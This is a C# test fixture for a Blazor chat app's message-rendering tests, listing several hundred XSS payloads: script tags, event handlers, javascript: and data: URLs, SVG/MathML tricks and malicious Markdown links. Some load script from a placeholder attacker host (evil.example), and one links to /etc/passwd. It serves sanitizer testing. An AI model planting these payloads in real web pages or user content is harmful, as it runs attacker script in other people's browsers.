namespace BlazorChat.Tests.Messages;

/// <summary>What people try in order to run a script in somebody else's browser, one a line.</summary>
internal static class XssPayloads
{
    /// <summary>All of them; <c>\n</c>, <c>\t</c>, <c>\0</c> and <c>\u00AD</c>-like escapes stand for the character.</summary>
    public static readonly IReadOnlyList<string> All =
    [
        .. Source.Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Select(l => l.Replace("\\n", "\n").Replace("\\t", "\t").Replace("\\r", "\r").Replace("\\0", "\0")
                .Replace("\\u0001", "\u0001").Replace("\\u00a0", "\u00a0").Replace("\\u200b", "\u200b").Replace("\\u202e", "\u202e").Replace("\\ufeff", "\ufeff")),
    ];

    private const string Source =
        """""
        <script>alert(1)</script>
        <SCRIPT>alert(1)</SCRIPT>
        <script src=//evil.example/x.js></script>
        <script/src="data:text/javascript,alert(1)"></script>
        <script>alert(1)//
        <script\n>alert(1)</script\n>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <<script>alert(1);//<</script>
        <script type="module">import 'https://evil.example'</script>
        <script x>alert(1)</script x>
        </script><script>alert(1)</script>
        "><script>alert(1)</script>
        '><script>alert(1)</script>
        --><script>alert(1)</script>
        ]]><script>alert(1)</script>
        </p><script>alert(1)</script><p>
        </title><script>alert(1)</script>
        </textarea><script>alert(1)</script>
        </style><script>alert(1)</script>
        </noscript><script>alert(1)</script>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <img src=x onerror=alert(1)>
        <img src=x onerror="alert(1)">
        <img/src=x/onerror=alert(1)>
        <img src=`x`onerror=alert(1)>
        <img src="x" onerror="&#97;lert(1)">
        <img src=x:x onerror=alert(1)//
        <img src="javascript:alert(1)">
        <img src=&#106;avascript:alert(1)>
        <img src="jav\tascript:alert(1)">
        <img dynsrc="javascript:alert(1)">
        <img lowsrc="javascript:alert(1)">
        <img srcset="x 1x, javascript:alert(1) 2x" onerror=alert(1)>
        <img """><script>alert(1)</script>">
        <img \0src=x onerror=alert(1)>
        <image src=x onerror=alert(1)>
        <body onload=alert(1)>
        <body background="javascript:alert(1)">
        <body onscroll=alert(1)><br><br><input autofocus>
        <html onmouseover=alert(1)>
        <svg onload=alert(1)>
        <svg/onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><script>alert&#40;1&#41;</script>
        <svg><script xlink:href="data:,alert(1)"/>
        <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>
        <svg><set attributeName=href to=javascript:alert(1)>
        <svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"></use></svg>
        <svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
        <svg><title><a title="</title><img src=x onerror=alert(1)>">
        <math href="javascript:alert(1)">x</math>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math><a xlink:href="javascript:alert(1)">x
        <math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <iframe src="javascript:alert(1)"></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe src="data:text/html,<script>alert(1)</script>"></iframe>
        <iframe onload=alert(1)>
        <frameset onload=alert(1)>
        <frame src=javascript:alert(1)>
        <object data="javascript:alert(1)"></object>
        <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
        <object type="text/x-scriptlet" data="https://evil.example"></object>
        <embed src="javascript:alert(1)">
        <embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
        <applet code="x" codebase="https://evil.example"></applet>
        <param name=url value=javascript:alert(1)>
        <link rel=stylesheet href="javascript:alert(1)">
        <link rel=import href="data:text/html,<script>alert(1)</script>">
        <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
        <meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
        <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
        <base href="javascript:alert(1)//">
        <base target="_self" href="https://evil.example/">
        <style>@import 'javascript:alert(1)';</style>
        <style>body{background:url("javascript:alert(1)")}</style>
        <style>*{x:expression(alert(1))}</style>
        <style><script>alert(1)</script></style>
        <div style="background:url(javascript:alert(1))">x</div>
        <div style="width:expression(alert(1))">x</div>
        <div style="behavior:url(#default#time2)" onbegin=alert(1)>x</div>
        <div style="position:fixed;inset:0;z-index:9999">click</div>
        <p style="-moz-binding:url(https://evil.example/x.xml#xss)">x</p>
        <table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x
        <td style="x:expression(alert(1))">
        <input onfocus=alert(1) autofocus>
        <input type=image src=x onerror=alert(1)>
        <input value="<script>alert(1)</script>">
        <button formaction=javascript:alert(1)>x</button>
        <button onclick=alert(1)>x</button>
        <form action=javascript:alert(1)><input type=submit></form>
        <form id=x></form><button form=x formaction="javascript:alert(1)">x
        <select onfocus=alert(1) autofocus>
        <textarea onfocus=alert(1) autofocus>
        <keygen onfocus=alert(1) autofocus>
        <isindex action=javascript:alert(1) type=submit value=x>
        <details open ontoggle=alert(1)>
        <details><summary onclick=alert(1)>x
        <dialog open onclose=alert(1)>
        <video><source onerror=alert(1)>
        <video poster=javascript:alert(1)//>
        <video src=x onerror=alert(1)>
        <audio src=x onerror=alert(1)>
        <audio controls onplay=alert(1)><source src=x>
        <marquee onstart=alert(1)>x</marquee>
        <marquee><img src=x onerror=alert(1)></marquee>
        <bgsound src="javascript:alert(1)">
        <layer src="https://evil.example/x.js"></layer>
        <xss id=x tabindex=1 onfocus=alert(1)></xss>
        <x onclick=alert(1)>click
        <x contenteditable onblur=alert(1)>x
        <x onpointerrawupdate=alert(1)>x
        <x style="animation-name:x" onanimationstart=alert(1)>
        <custom-element onmouseenter=alert(1)>x</custom-element>
        <template><script>alert(1)</script></template>
        <template shadowrootmode=open><slot onslotchange=alert(1)></template>
        <slot name=x onslotchange=alert(1)>
        <portal src=javascript:alert(1)>
        <a href="javascript:alert(1)">x</a>
        <a href=javascript:alert(1)>x
        <a href="JaVaScRiPt:alert(1)">x</a>
        <a href=" javascript:alert(1)">x</a>
        <a href="java\nscript:alert(1)">x</a>
        <a href="&#x6A;avascript:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="https://ok.example" onmouseover=alert(1)>x</a>
        <a href="https://ok.example" target="_top" rel="opener">x</a>
        <a ping="https://evil.example" href="https://ok.example">x</a>
        <span class="mention" data-user-id="1" onclick=alert(1)>@admin</span>
        <span class="mud-overlay button" id="app">x</span>
        <b onmouseover=alert(1)>x</b>
        <br onload=alert(1)>
        <code class="x" onclick=alert(1)>x</code>
        <!--<img src="--><img src=x onerror=alert(1)//">
        <!-- --!><script>alert(1)</script> -->
        <![CDATA[<script>alert(1)</script>]]>
        <?xml version="1.0"?><script>alert(1)</script>
        <?php echo '<script>alert(1)</script>' ?>
        <!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
        <!ELEMENT script><script>alert(1)</script>
        <%<script>alert(1)</script>%>
        <comment><img src="</comment><img src=x onerror=alert(1)//">
        <xmp><p title="</xmp><svg/onload=alert(1)>">
        <plaintext><script>alert(1)</script>
        <listing><img src=x onerror=alert(1)></listing>
        <noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
        <noframes><p title="</noframes><svg/onload=alert(1)>">
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;script&#62;alert(1)&#60;/script&#62;
        &#x3C;img src=x onerror=alert(1)&#x3E;
        %3Cscript%3Ealert(1)%3C/script%3E
        \u200b<script>alert(1)</script>
        \u202e<script>alert(1)</script>
        \ufeff<script>alert(1)</script>
        <\0script>alert(1)</script>
        ＜script＞alert(1)＜/script＞
        [x](javascript:alert(1))
        [x](JAVASCRIPT:alert(1))
        [x](JaVaScRiPt:alert`1`)
        [x]( javascript:alert(1))
        [x](<javascript:alert(1)>)
        [x](< javascript:alert(1)>)
        [x](<java script:alert(1)>)
        [x](java\tscript:alert(1))
        [x](<java\tscript:alert(1)>)
        [x](<java\nscript:alert(1)>)
        [x](\u0001javascript:alert(1))
        [x](\u00a0javascript:alert(1))
        [x](\u200bjavascript:alert(1))
        [x](javascript&colon;alert(1))
        [x](javascript&#58;alert(1))
        [x](javascript&#x3a;alert&lpar;1&rpar;)
        [x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))
        [x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
        [x](&Tab;javascript:alert(1))
        [x](java&NewLine;script:alert(1))
        [x](java&#10;script:alert(1))
        [x](%6Aavascript:alert(1))
        [x](javascript%3Aalert(1))
        [x](\\javascript:alert(1))
        [x](javascript\\:alert(1))
        [x](javascript://ok.example/%0Aalert(1))
        [x](javascript:alert(1)//https://ok.example)
        [x](vbscript:msgbox(1))
        [x](livescript:x)
        [x](data:text/html,<script>alert(1)</script>)
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
        [x](blob:https://ok.example/1)
        [x](file:///etc/passwd)
        [x](filesystem:https://ok.example/x)
        [x](view-source:javascript:alert(1))
        [x](about:blank)
        [x](ws://evil.example)
        [x](intent://evil.example#Intent;scheme=javascript;end)
        [x](//evil.example/x)
        [x](/account/sign-out)
        [x](../../admin)
        [x](?q=1)
        [x](#top)
        [x](\\\\evil.example\\share)
        [x](https:javascript:alert(1))
        [x](https://ok.example"onmouseover="alert(1))
        [x](https://ok.example'onmouseover='alert(1))
        [x](https://ok.example "title" onclick=alert(1))
        [x](https://ok.example "\"><script>alert(1)</script>")
        [x](https://ok.example '"onmouseover=alert(1) x="')
        [x](https://ok.example/<script>alert(1)</script>)
        [x](<https://ok.example/"><script>alert(1)</script>>)
        [x](https://ok.example){onclick=alert(1)}
        [x](https://ok.example){.mud-overlay #app style="position:fixed"}
        [<img src=x onerror=alert(1)>](https://ok.example)
        [<script>alert(1)</script>](javascript:alert(1))
        [![x](javascript:alert(1))](javascript:alert(2))
        [a [b](javascript:alert(1)) c](javascript:alert(2))
        [x](javascript:alert(1)) [y](https://ok.example) [z](data:,x)
        ![x](javascript:alert(1))
        ![x](data:image/svg+xml,<svg/onload=alert(1)>)
        ![x](x"onerror="alert(1))
        ![x](https://ok.example/"onerror="alert(1))
        ![x](https://ok.example/x.png "onerror=alert(1)")
        !["onerror="alert(1)](https://ok.example/x.png)
        ![<img src=x onerror=alert(1)>](https://ok.example/x.png)
        [x]: javascript:alert(1)\n\n[x]
        [x]: <javascript:alert(1)>\n\n[x][]
        [x]: data:text/html,<script>alert(1)</script>\n\n[y][x]
        [x]: https://ok.example "onclick=alert(1)"\n\n![x]
        <javascript:alert(1)>
        <JAVASCRIPT:alert(1)>
        <data:text/html,x>
        <vbscript:msgbox(1)>
        <https://ok.example/"onmouseover="alert(1)>
        <a"onclick="alert(1)@ok.example>
        <x@ok.example?subject=<script>alert(1)</script>>
        javascript:alert(1)
        javascript://www.ok.example/%0aalert(1)
        https://ok.example/"onmouseover="alert(1)
        https://ok.example/<script>alert(1)</script>
        https://ok.example/'><img/src/onerror=alert(1)>
        http://javascript:alert(1)@ok.example
        http://"onclick=alert(1)
        www.ok.example/"onmouseover=alert(1)
        www.<script>alert(1)</script>.example
        mailto:x@ok.example?body="><script>alert(1)</script>
        mailto:"onclick="alert(1)@ok.example
        ftp://ok.example/<script>
        tel:+1"onclick="alert(1)
        `<script>alert(1)</script>`
        `` ` <img src=x onerror=alert(1)> ``
        `a` <script>`</script>alert(1)
        **<script>alert(1)</script>**
        *<img src=x onerror=alert(1)>*
        ~~<svg onload=alert(1)>~~
        **<b onclick=alert(1)//**>x
        ```<script>alert(1)</script>\nx\n```
        ```"onclick="alert(1)\nx\n```
        ```js"><script>alert(1)</script>\nx\n```
        ```js onclick=alert(1)\nx\n```
        ```x class="mud-overlay"\nx\n```
        ```{onclick=alert(1)}\nx\n```
        ``` &quot;onclick=alert(1)\nx\n```
        ```\n</code></pre><script>alert(1)</script>\n```
        ~~~ "><img src=x onerror=alert(1)>\nx\n~~~
        |<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|
        |a|\n|-|\n|</td></tr></table><script>alert(1)</script>|
        |a|\n|:-"onclick=alert(1):|\n|x|
        |`|`<script>|\n|-|-|\n|alert(1)|</script>|
        > <script>alert(1)</script>
        > [x](javascript:alert(1))
        > </blockquote><img src=x onerror=alert(1)>
        - <script>alert(1)</script>
        1. [x](javascript:alert(1))
        999999999. <img src=x onerror=alert(1)>
        1"onclick=alert(1). x
        # <script>alert(1)</script>
        <script>alert(1)</script>\n===
        {onclick=alert(1)}
        :smile:"onclick=alert(1)
        $$<script>alert(1)</script>$$
        [^1]: <script>alert(1)</script>\n\n[^1]
        *[x]: <script>alert(1)</script>\n\nx
        @<script>alert(1)</script>
        @Mallory"onclick="alert(1)
        @Mallory<img src=x onerror=alert(1)>
        [@Mallory](javascript:alert(1))
        <@Mallory>
        <a href="@Mallory">x</a>
        @Mallory [x](javascript:alert(1)) @Mallory
        """"";
}
